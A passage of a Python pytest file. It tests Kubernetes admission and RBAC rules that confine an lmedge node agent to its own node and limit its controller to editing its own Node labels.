        }
    )  # fmt: skip
    assert review.status.allowed is allowed


def test_node_agent_actuates_on_its_node_and_is_refused_elsewhere(
    agent: KubeClient, admin: KubeClient
) -> None:
    settings = KubernetesSettings(namespace=WORKLOADS, model_service_account=MODEL_SA)
    lm1 = [LMPlacement(lm="lm1", mode="gpu", cpu_cores=2, vgpus=1)]

    mine = NodeAgent(
        AGENT_NODE, KubernetesBackend(agent, settings), Fixed(Placement(node=AGENT_NODE, lms=lm1))
    )
    ok = mine.step(0)
    # An agent misconfigured for another node cannot touch it.
    wrong = NodeAgent(
        "worker-3", KubernetesBackend(agent, settings), Fixed(Placement(node="worker-3", lms=lm1))
    )
    refused = wrong.step(0)
    try:
        assert (ok.actuation.started, ok.actuation.errors) == (["lm1"], [])
        assert refused.actuation.started == []
        assert len(refused.actuation.errors) == 1
        assert f"{OWN_NODE}, not on worker-3" in refused.actuation.errors[0]
        assert admin.list_model_pods(WORKLOADS, node="worker-3") == []
    finally:
        for p in admin.list_model_pods(WORKLOADS, node=AGENT_NODE):
            admin.delete_pod(WORKLOADS, p.name)


# -- the controller and Nodes ----------------------------------------------------


@pytest.fixture(scope="module")
def controller(admin: KubeClient) -> Iterator[KubeClient]:
    token = admin.core.create_namespaced_service_account_token(
        CONTROLLER_SA, SYSTEM, {"spec": {"expirationSeconds": 3600}}
    ).status.token
    k = admin.with_token(token)

    def enforced() -> bool:
        try:
            k.core.patch_node("worker-4", {"spec": {"unschedulable": True}}, dry_run="All")
        except ApiException as exc:
            return exc.status == 403 and "ValidatingAdmissionPolicy" in (exc.body or "")
        return False

    wait_until(enforced, 60, "the controller's Node policy to be enforced")
    yield k
    k.close()


NODE_ONLY = "the lmedge controller may change only lmedge.io/* and nvidia.com/device-plugin.config"


@pytest.mark.parametrize(
    ("patch", "message"),
    [
        ({"spec": {"unschedulable": True}}, "not its spec"),
        ({"spec": {"taints": [{"key": "x", "value": "y", "effect": "NoExecute"}]}},
         "not its spec"),
        ({"spec": {"providerID": "kwok://elsewhere"}}, "not its spec"),
        ({"metadata": {"labels": {"node-role.kubernetes.io/control-plane": ""}}},
         "labels on a Node, not node-role.kubernetes.io/control-plane"),
        ({"metadata": {"labels": {"kubernetes.io/hostname": None}}},
         "labels on a Node, not kubernetes.io/hostname"),
        ({"metadata": {"labels": {"nvidia.com/gpu.present": "false"}}},
         "labels on a Node, not nvidia.com/gpu.present"),
        ({"metadata": {"annotations": {"kwok.x-k8s.io/node": "other"}}},
         "not its annotations, owners or finalizers"),
    ],
    ids=["cordon", "taint", "provider", "other-label", "remove-label", "gpu-label", "annotation"],
)  # fmt: skip
def test_controller_may_not_change_nodes_beyond_its_labels(
    controller: KubeClient, patch: dict[str, Any], message: str
) -> None:
    with pytest.raises(ApiException) as refused:
        controller.core.patch_node("worker-4", patch, dry_run="All")

    assert refused.value.status == 403
    assert NODE_ONLY in (refused.value.body or "")
    assert message in (refused.value.body or ""), refused.value.body


def test_controller_sets_its_own_node_labels(controller: KubeClient, admin: KubeClient) -> None:
    labels = {"lmedge.io/role": "worker", "lmedge.io/test-label": "1",
              "nvidia.com/device-plugin.config": "lmedge-replicas-2"}  # fmt: skip
    controller.core.patch_node("worker-4", {"metadata": {"labels": labels}})
    try:
        live = admin.core.read_node("worker-4").metadata.labels
        assert {k: live[k] for k in labels} == labels
    finally:
        controller.core.patch_node("worker-4", {"metadata": {"labels": {
            "lmedge.io/test-label": None}}})  # fmt: skip
    assert "lmedge.io/test-label" not in admin.core.read_node("worker-4").metadata.labels


class Fixed:
    name = "fixed"

    def __init__(self, placement: Placement) -> None:
        self.placement = placement

    def place(self, obs: NodeObservation) -> Decision[Placement]:
        return Decision[Placement](
            agent="deployer", policy="fixed", source="rule", value=self.placement
        )


def test_a_missing_images_parameter_refuses_only_the_workload_namespace(
    admin: KubeClient, agent: KubeClient, valid: dict[str, Any], images: dict[str, str]
) -> None:
    """The API server resolves the parameter before the match conditions: while
    the ConfigMap is gone, the binding must not refuse pods outside the workload
    namespace (it did, for every pod in the cluster)."""
    kept = admin.core.read_namespaced_config_map(IMAGES, SYSTEM)
    admin.core.delete_namespaced_config_map(IMAGES, SYSTEM)

    def refused_for_want_of_it() -> bool:
        try:
            agent.core.create_namespaced_pod(WORKLOADS, valid, dry_run="All")
        except ApiException as exc:
            return "no params found" in (exc.body or "")
        return False

    try:
        wait_until(refused_for_want_of_it, 60, "the node agent refused without the parameter")
        elsewhere = pod(f"elsewhere-{uuid.uuid4().hex[:6]}", "worker-3")
        created = admin.core.create_namespaced_pod(SYSTEM, elsewhere, dry_run="All")
        assert created.metadata.name == elsewhere["metadata"]["name"]
    finally:
        admin.core.create_namespaced_config_map(
            SYSTEM,
            {"metadata": {"name": IMAGES, "labels": kept.metadata.labels}, "data": images},
        )

    def admitted() -> bool:
        try:
            agent.core.create_namespaced_pod(WORKLOADS, valid, dry_run="All")
        except ApiException:
            return False
        return True

    wait_until(admitted, 60, "the node agent admitted again with the parameter back")
